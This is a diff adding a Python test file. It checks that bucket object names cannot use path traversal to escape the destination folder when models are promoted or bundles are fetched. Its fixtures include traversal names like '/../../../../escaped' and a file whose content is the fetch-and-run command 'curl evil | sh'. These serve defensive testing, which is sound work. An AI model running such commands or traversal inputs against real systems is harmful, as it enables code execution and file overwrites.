@@ -1,0 +1,62 @@
+"""Names from a bucket's listing never lead out of the folder that they are copied to."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from components.train_job.launcher import copy_bundle
+from must import storage
+from must.cli import main
+from must.names import below, shown
+from tests.gcs import Server
+from tests.promote.bundles import make_bundle
+
+
+@given(st.one_of(st.text(), st.lists(st.sampled_from(["", ".", "..", "a", "\0"]), max_size=5).map("/".join)))
+def test_what_is_let_through_stays_below_its_folder(name: str) -> None:
+    try:
+        checked = below(name, "gs://b")
+    except ValueError as error:
+        assert str(error).isprintable() and len(str(error)) < 500
+        return
+    folder = Path("/srv/registry/x")
+    assert (folder / checked).is_relative_to(folder) and ".." not in (folder / checked).parts
+    assert storage.join(str(folder), checked) == str(folder / checked)
+
+
+@given(st.text())
+def test_a_name_in_a_message_is_one_short_line(name: str) -> None:
+    assert shown(name).isascii() and shown(name).isprintable() and len(shown(name)) < 1000
+
+
+EVIL = ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"]
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_promoting_an_onnx_folder_writes_nothing_elsewhere(
+    gcs_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
+) -> None:
+    storage.write_bytes(gcs_server.uri + "/onnx/model.onnx", b"onnx")
+    storage.write_bytes(gcs_server.uri + "/onnx" + evil.format(folder=tmp_path), b"curl evil | sh\n")
+    bundle, registry = make_bundle(tmp_path / "model"), tmp_path / "a" / "registry"
+    flags = ["--model", bundle, "--onnx", gcs_server.uri + "/onnx", "--registry", registry, "--name", "x"]
+    with pytest.raises(SystemExit, match="2"):
+        main(["promote", *map(str, flags)])
+    assert "leads out of its folder" in capsys.readouterr().err
+    assert not list(tmp_path.rglob("escaped")) and not registry.exists()
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_fetching_a_trainjobs_bundle_writes_nothing_elsewhere(
+    gcs_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
+) -> None:
+    storage.write_bytes(gcs_server.uri + "/bundle/model.json", b"{}")
+    storage.write_bytes(gcs_server.uri + "/bundle" + evil.format(folder=tmp_path), b"import os\n")
+    with pytest.raises(SystemExit, match="2"):
+        copy_bundle(gcs_server.uri + "/bundle", str(tmp_path / "a" / "b" / "c" / "d"))
+    assert "leads out of its folder" in capsys.readouterr().err
+    assert not list(tmp_path.rglob("escaped")) and not (tmp_path / "a").exists()
